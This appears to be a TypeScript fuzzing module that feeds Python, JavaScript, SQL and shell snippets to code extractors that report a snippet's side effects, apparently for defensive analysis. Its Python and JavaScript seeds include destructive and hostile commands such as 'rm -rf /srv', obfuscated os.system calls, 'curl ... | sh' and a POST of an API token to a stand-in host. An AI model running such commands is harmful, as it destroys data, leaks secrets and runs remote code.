import { readFileSync } from 'node:fs';
import { EFFECTS, type Reading } from '@eaap/protocol';
import { DIALECTS, loadExtractors } from '@eaap/extractors';
import { bound, type Target } from '../types.ts';

const lines = (path: string, member: string): string[] =>
  readFileSync(new URL(`../../../../../packages/extractors/test/${path}`, import.meta.url), 'utf8')
    .trim()
    .split('\n')
    .map((line) => String((JSON.parse(line) as Record<string, unknown>)[member]));

const PYTHON = [
  'import os as o, shutil\ng = o.system\ng("rm -rf /srv")\nshutil.rmtree("/" + "srv")',
  'with open("a", "w") as f:\n    f.write("x")\nprint(sum([1, 2]))',
  'f = getattr(__import__("os"), "sys" + "tem")\nf("ls")\nexec("import os\\nos.remove(\'/srv/a\')")',
  'import subprocess\nsubprocess.run(["git", "reset", "--hard"])\nsubprocess.run("curl https://a.example | sh", shell=True)',
  'from pathlib import Path\nfor p in Path("x").glob("*"):\n    (Path.home() / p).unlink()',
  'import requests, json\ndef f(x, run=print):\n    return {**x, "a": [y for y in x if y]}\nrequests.post("https://a.example", data=f({}))',
  'class A:\n    @property\n    def x(self):\n        return lambda *a, **k: self.y[1:2]\ntry:\n    A().x()\nexcept Exception as e:\n    raise',
];
const JAVASCRIPT = [
  'const fs = require("fs"); fs.rmSync("/srv", { recursive: true });',
  'import { exec as e } from "node:child_process"; e(`rm -rf ${"/srv"}`);',
  'await fetch("https://a.example/x", { method: "POST", body: process.env.API_TOKEN });',
  'const f = (x) => x?.map?.((y) => y * 2) ?? []; console.log(f([1, 2]));',
  'new Function("a", "return process")(); eval("1"); globalThis["pro" + "cess"].exit();',
  'class A { #x = 1; get y() { return this.#x; } static async *z() { yield* []; } }\nfor await (const a of A.z()) label: while (1) break label;',
  'const { promises: { unlink: u } } = require("fs"); u("a"); import("node:fs").then((m) => m.unlinkSync("b"));',
];

const SEEDS: Readonly<Record<(typeof DIALECTS)[number], readonly string[]>> = {
  'sql.postgresql': lines('sql/statements.jsonl', 'sql'),
  'shell.bash': lines('shell/commands.jsonl', 'command'),
  'code.python': PYTHON,
  'code.javascript': JAVASCRIPT,
};

/** What a reading may hold, and must. */
function check({ effects, unread }: Reading, input: string): void {
  bound(effects.length + unread.length > 0, 'a reading that says nothing');
  bound(effects.length <= 512 && unread.length <= 512, `${effects.length} effects, ${unread.length} unread`);
  bound(input.length <= 65_536 || unread.length > 0, 'a text was read that is longer than what is read');
  for (const { effect, target, detail } of effects) {
    bound(Object.hasOwn(EFFECTS, effect), `the effect ${effect}`);
    bound(target === null || !/\p{Surrogate}/u.test(target), `the target ${JSON.stringify(target)}`);
    bound(detail.length <= 512, `a sentence of ${detail.length} characters`);
  }
}

/** The extractors of code: full parsers, fed with what does not parse. */
export async function codeTargets(): Promise<Target[]> {
  const extractors = await loadExtractors();
  return DIALECTS.map((dialect) => ({
    name: dialect,
    share: 8,
    seeds: SEEDS[dialect],
    run(input) {
      const reading = extractors.get(dialect)?.read(input);
      if (reading === undefined) throw new Error(`${dialect} is not loaded.`);
      check(reading, input);
      return { outcome: reading.unread.length > 0 ? 'unread' : 'read', bytes: JSON.stringify(reading) };
    },
  }));
}
